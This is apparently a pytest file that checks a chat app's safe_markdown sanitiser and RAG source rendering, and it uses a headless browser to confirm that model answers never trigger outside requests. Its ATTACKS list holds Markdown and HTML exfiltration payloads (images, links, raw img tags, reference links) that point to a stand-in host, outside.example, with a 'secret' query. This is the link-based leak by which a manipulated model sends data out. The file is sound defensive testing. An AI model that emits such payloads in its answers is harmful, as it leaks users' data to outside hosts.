"""Issue 21 row 3: model text never makes the browser fetch or link an outside address.

The unit tests render :func:`safe_markdown`'s output with a CommonMark parser (markdown-it-py);
the browser test shows such an answer on the Chat page in chromium and records every request
the page makes."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from mactuner.safe_text import JOINER, safe_markdown

LEAK = "![status](https://outside.example/leak?q=secret)"
ATTACKS = [
    LEAK,
    "See [the docs](https://outside.example/docs?q=secret).",
    "<https://outside.example/auto?q=secret>",
    '<img src="https://outside.example/raw.png?q=secret">',
    "![ref][r]\n\n[r]: https://outside.example/ref.png?q=secret",
    "Visit https://outside.example/bare?q=secret or www.outside.example/www now, or mail me@outside.example.",
    "an escaped \\![x](https://outside.example/esc.png) one",
    "> quoted ![q](https://outside.example/quote.png)",
    "- item ![i](https://outside.example/list.png)",
    "`code` then ![after](https://outside.example/after.png) and `x`",
    "```\nfenced ![ok](https://outside.example/in-code.png)\n```\n![out](https://outside.example/out.png)",
    "  ```\n  indented fence\n![l](https://outside.example/lazy.png)",
    "```\nunclosed fence ![c](https://outside.example/unclosed.png)",
    "$\\href{https://outside.example/math}{x}$",
]


def render(markdown: str) -> str:
    return MarkdownIt("commonmark").render(markdown)


@pytest.mark.parametrize("text", ATTACKS)
def test_safe_markdown_renders_no_image_link_or_html(text):
    safe = safe_markdown(text)
    html = render(safe)
    assert "<img" not in html and "<a " not in html and 'src="' not in html, html
    # the bare addresses GitHub-flavoured Markdown (Streamlit's) links are broken up in the source
    # (they render as the same text), except inside a fenced code block, which is never a link
    outside_code = re.sub(r"(?ms)^```\n.*?(^```\n?|\Z)", "", safe)
    assert not re.search(r"(?i)(https?|mailto|xmpp):|www\.|\w@\w", outside_code), safe


def test_safe_markdown_keeps_the_words_and_the_formatting():
    text = "**Paris** is the capital.\n\n- one [1]\n- two <b>\n\n```python\nx = [1, 2]  # <keep>\n```\n"
    html = render(safe_markdown(text))
    assert "<strong>Paris</strong>" in html and "<li>one [1]</li>" in html and "<li>two &lt;b&gt;</li>" in html
    assert "x = [1, 2]  # &lt;keep&gt;" in html  # code is left as it was
    shown = render(safe_markdown(LEAK)).strip()
    assert shown.replace(JOINER, "") == "<p>![status](https://outside.example/leak?q=secret)</p>"  # reads the same
    assert safe_markdown("") == ""


def test_rag_source_titles_and_evidence_show_document_text_safely():
    from mactuner import rag

    hit = {"file": "![x](https://outside.example/f.png).md", "position": "line 1, chunk 0", "score": 0.5}
    evidence = {"source": 1, "file": hit["file"], "position": "line 1, chunk 0", "score": 0.5, "sentence": LEAK}
    for markdown in (rag.source_title(1, hit), rag.evidence_note(evidence)):
        html = render(markdown)
        assert "<img" not in html and "<a " not in html, html


@pytest.mark.browser
def test_chat_page_shows_a_leaking_answer_without_any_outside_request(mactuner_home):
    from mactuner.chat.history import history_key, new_turn, save_history
    from mactuner.models import DEFAULT_MODEL
    from tests.browser import browser_page, running_app, wait_for_app

    question, reply = new_turn("What is the status?")
    reply["answers"]["base"] = "\n\n".join(["Here is the status."] + ATTACKS + ["End of the status."])
    save_history(history_key(DEFAULT_MODEL), [question, reply], model=DEFAULT_MODEL)
    with running_app({"MACTUNER_HOME": str(mactuner_home)}) as url, browser_page() as page:
        requests: list[str] = []
        page.on("request", lambda request: requests.append(request.url))
        page.goto(url + "/chat")
        wait_for_app(page)
        answer = page.locator('[data-testid="stChatMessage"]').nth(1)
        answer.get_by_text("End of the status.").wait_for()
        page.wait_for_timeout(1500)  # time for any image to be asked for
        html = answer.inner_html()
    outside = [r for r in requests if not r.startswith(url) and not r.startswith("data:")]
    assert outside == []
    assert "outside.example" in html  # shown as text…
    tags = _attributes(html, "img") + _attributes(html, "a")
    assert "outside.example" not in tags, tags  # …never as an image or a link


def _attributes(html: str, tag: str) -> str:
    import re

    return " ".join(re.findall(rf"<{tag}\b[^>]*>", html))
